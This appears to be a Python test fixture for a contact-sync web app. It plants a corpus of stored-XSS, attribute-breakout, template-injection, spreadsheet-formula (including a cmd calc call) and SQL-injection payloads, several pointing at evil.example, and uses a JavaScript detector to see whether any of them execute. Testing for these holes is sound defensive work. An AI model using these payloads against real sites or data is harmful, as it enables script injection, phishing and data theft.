"""Texts that people or systems may store in order to do harm where a page shows them, and where they are put.

Each holds a mark of its own, ``lbx`` and a number. What would run sets ``window.lbx``; what would be fetched
is at evil.example. A page that is in order shows them as the text they are.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import replace
from typing import Any

from browser_world import Plan
from landbridge.sandbox.server import Sandbox
from landbridge.sync.model import Side
from landbridge.sync.rules import Direction, LabelRule, Policy, Rule
from web_browser import Tab

# HTML that does harm wherever it is put into a page as it is.
MARKUP = (
    "<script>window.lbx='lbx01'</script>",
    "<img src=/lbx02 onerror=\"window.lbx='lbx02'\">",
    "<svg onload=\"window.lbx='lbx03'\"><circle r=9 /></svg>",
    "<svg><script>window.lbx='lbx04'</script></svg>",
    "<iframe srcdoc=\"<script>parent.lbx='lbx05'</script>\"></iframe>",
    "<a href=\"javascript:window.lbx='lbx06'\">press</a>",
    "</title><script>window.lbx='lbx07'</script>",
    "</textarea></select></option><script>window.lbx='lbx08'</script>",
    "--><script>window.lbx='lbx09'</script><!--",
    "<base href=https://evil.example/lbx10/>",
    '<meta http-equiv=refresh content="0;url=https://evil.example/lbx11">',
    "<link rel=stylesheet href=https://evil.example/lbx12.css>",
    "<form action=https://evil.example/lbx13><input name=lbx13><button>Log in</button></form>",
    "<style>body{display:none}/*lbx14*/</style>",
    "<img src=https://evil.example/lbx15.png>",
    "<object data=https://evil.example/lbx16></object><embed src=https://evil.example/lbx16>",
    '<p hx-get=https://evil.example/lbx17 hx-trigger="load">lbx17</p>',
    "<math><mtext><table><mglyph><style><img src=x onerror=\"window.lbx='lbx18'\"></style></mglyph></table>",
    "<details open ontoggle=\"window.lbx='lbx19'\"><summary>lbx19</summary></details>",
    '<p style="position:fixed;inset:0;background:red">lbx20</p>',
)
# What ends an attribute, and goes on as another one or as an element.
QUOTES = (
    "\" onmouseover=\"window.lbx='lbx21'\" autofocus onfocus=\"window.lbx='lbx21'",
    "'><script>window.lbx='lbx22'</script>",
    "\"><script>window.lbx='lbx23'</script>",
    "` onload=`window.lbx='lbx24'`",
)
# What does harm elsewhere, or makes a page unreadable.
TEXTS = (
    "javascript:window.lbx='lbx25'//",
    "{{ 7 * 191 }}{% for lbx26 in ().__class__.__mro__ %}{{ lbx26 }}{% endfor %}${7*191}#{7*191}<%= 7*191 %>",
    "lbx27 \u202eexe.tcartnoc\u202c \u2067\u05d0\u2066",
    "lbx28 Z\u0351\u036b\u0343\u036a\u0302a\u0338\u0321\u0334l\u0323\u035fg\u200b\u200d\u2060\ufeffo",
    "lbx29 <div><p </b <<i &amp &#x; &#0; ]]> <!doctype",
    "&lt;script&gt;lbx30&lt;/script&gt; &#60;script&#62; %3Cscript%3E \\u003cscript\\u003e",
    '=HYPERLINK("https://evil.example/lbx31","press")',
    "+lbx32-1+cmd|' /C calc'!A0",
    "@SUM(1+1)*lbx33",
    "lbx34" + "W" * 3_000,
    "null lbx35 undefined NaN None true [object Object]",
    "lbx36 \U0001f469\u200d\U0001f469\u200d\U0001f467 \U0001f3f3\ufe0f\u200d\U0001f308 \U0001d4d0",
    "+ADw-script+AD4-lbx37",
    "'; DROP TABLE link; -- lbx38",
)
CORPUS = MARKUP + QUOTES + TEXTS
# Shorter than 100, where names end.
POLYGLOT = "lbx99'\"></title></textarea><script>window.lbx=1</script><img src=x onerror=window.lbx=2>"

# What on the page is not what the templates make; the attack itself in an attribute that holds text is none.
STRANGE = """(() => {
  const strange = [], here = location.origin;
  // The contact in HighLevel, and the feed of the calendar for the machine's own program.
  const known = /^(https:\\/\\/app\\.gohighlevel\\.com\\/|webcal:\\/\\/bridge\\.example\\.com\\/feeds\\/)/;
  const never = new Set(["iframe", "frame", "object", "embed", "base", "style", "math", "video", "audio",
    "template", "foreignobject", "animate", "set", "use", "image", "marquee", "portal", "noscript"]);
  const ours = new Set(["script", "img", "link"]);
  const addresses = new Set(["href", "src", "action", "formaction", "data", "xlink:href", "poster", "srcset",
    "hx-get", "hx-post", "hx-put", "hx-delete", "hx-patch", "background", "ping", "manifest"]);
  const at = value => { try { return new URL(value, document.baseURI) } catch { return {origin: "none"} } };
  for (const element of document.querySelectorAll("*")) {
    const name = element.localName.toLowerCase();
    if (never.has(name) || name.includes("-")) strange.push("element " + name);
    if (ours.has(name)) {
      const source = at(element.getAttribute(name === "link" ? "href" : "src"));
      if (source.origin !== here || !source.pathname.startsWith("/static/")) strange.push("foreign " + name);
    }
    if (name === "meta" && element.httpEquiv) strange.push("meta " + element.httpEquiv);
    for (const {name: key, value} of element.attributes) {
      if (key.startsWith("on") || key === "style" || key === "srcdoc" || /[^a-z0-9:-]/i.test(key)
          || key.includes("lbx")) strange.push(`attribute ${key} of ${name}`);
      if (addresses.has(key) && at(value).origin !== here && !known.test(value))
        strange.push(`address ${value} of ${name}`);
      if (["name", "class"].includes(key) && value.includes("lbx"))
        strange.push(`${key} ${value} of ${name}`);
    }
  }
  if ("lbx" in window) strange.push("ran " + window.lbx);
  const text = document.documentElement.textContent;
  if (/(?<!\\d)1337(?!\\d)/.test(text)) strange.push("a template ran");
  return strange;
})()"""
WORDS = """[document.documentElement.textContent, ...[...document.querySelectorAll("input, textarea, option")]
  .map(each => each.value)].join(" ")"""


async def strange(tab: Tab) -> list[str]:
    """What of an attack came to life on the page that is shown; and what the browser complained of."""
    found: list[str] = await tab.run(STRANGE)
    return found + tab.complaints


async def words(tab: Tab) -> str:
    """All text of the page, as it is, with what its fields hold; white space counts once."""
    return spaced(await tab.run(WORDS))


def spaced(text: str) -> str:
    """White space of any kind as one blank, as pages show it."""
    return " ".join(text.split())


def email_of(number: int) -> str:
    """By which the attacker's two records find one another."""
    return f"attack{number}@example.com"


def plant(sandbox: Sandbox) -> None:
    """One person for each attack, who holds it in every field, tag, list, task, note and appointment."""
    for number, text in enumerate(CORPUS):
        key = _in_highlevel(sandbox, number, text)
        _activities(sandbox, key, text)
        names = _REZORA if number % 3 else _REZORA + _PHONES  # for a bad phone the whole record is refused
        fields = dict.fromkeys(names, text) | {"contact_email": email_of(number)}
        rezora = _edit(sandbox, Side.REZORA, "create", "contact", fields=fields)["id"]
        row = _edit(sandbox, Side.REZORA, "create_list", "list", name=text)
        _edit(sandbox, Side.REZORA, "add_to_list", "contact", id=rezora, list=row["id"])
        task = {"task_title": text, "task_body": text}
        _edit(sandbox, Side.REZORA, "create", "task", contact=rezora, fields=task)


_HIGHLEVEL = ("lastName", "address1", "city", "state", "postalCode", "website", "source", "companyName")
_REZORA = (
    "contact_name", "contact_title", "contact_company", "contact_home_street", "contact_home_street2",
    "contact_home_city", "contact_home_state", "contact_home_zip",
)  # fmt: skip
_PHONES = ("contact_phone_home", "contact_phone_mobile")


def _in_highlevel(sandbox: Sandbox, number: int, text: str) -> str:
    fields: dict[str, Any] = dict.fromkeys(_HIGHLEVEL, text)
    fields |= {"firstName": text, "email": email_of(number), "tags": [text]}
    return str(_edit(sandbox, Side.HIGHLEVEL, "create", "contact", fields=fields)["id"])


def _activities(sandbox: Sandbox, key: str, text: str) -> None:
    task = {"title": text, "body": text, "dueDate": "2026-06-02T15:00:00Z", "completed": False}
    booked = {
        "title": text,
        "address": text,
        "description": text,
        "startTime": "2026-06-01T15:00:00Z",
        "endTime": "2026-06-01T16:00:00Z",
    }
    for kind, fields in (("task", task), ("note", {"body": text, "title": text}), ("appointment", booked)):
        _edit(sandbox, Side.HIGHLEVEL, "create", kind, contactId=key, fields=fields)


def _edit(sandbox: Sandbox, side: Side, action: str, kind: str, **rest: Any) -> dict[str, Any]:
    return sandbox.edit(side, {"action": action, "kind": kind, **rest})


def attacked(policy: Policy) -> Policy:
    """The mapping with each attack as a label, and as the name of a rule."""
    labels = tuple(LabelRule(text, text, Direction.BOTH) for text in CORPUS)
    renamed = [replace(rule, name=_named(number, rule)) for number, rule in enumerate(policy.rules)]
    return replace(policy, rules=tuple(renamed), labels=policy.labels + labels)


def _named(number: int, rule: Rule) -> str:
    return rule.name if number % 2 else f"{rule.name} {POLYGLOT}"


def recipe(text: str) -> str:
    """A recipe that has the attack in its tag and in what it writes."""
    quoted = json.dumps(text.replace("{{", "{ {").replace("{%", "{ %"))
    return (
        f'name = "Attacked"\non = "tag_added"\ntag = {json.dumps(text)}\n'
        f'[[do]]\naction = "create_task"\ntitle = {quoted}\n'
    )


def plan(policy: Callable[[Policy], Policy] = attacked) -> Plan:
    """A world in which every text that people or systems choose is an attack."""
    return Plan(
        people=6,
        bridge_name=POLYGLOT,
        highlevel={"location_name": POLYGLOT},
        rezora={"agent_name": POLYGLOT, "max_length": 0},
        policy=policy,
        before=plant,
        recipe=recipe(POLYGLOT),
        hook_name=POLYGLOT,
        operator=POLYGLOT,
        invited=POLYGLOT,
    )
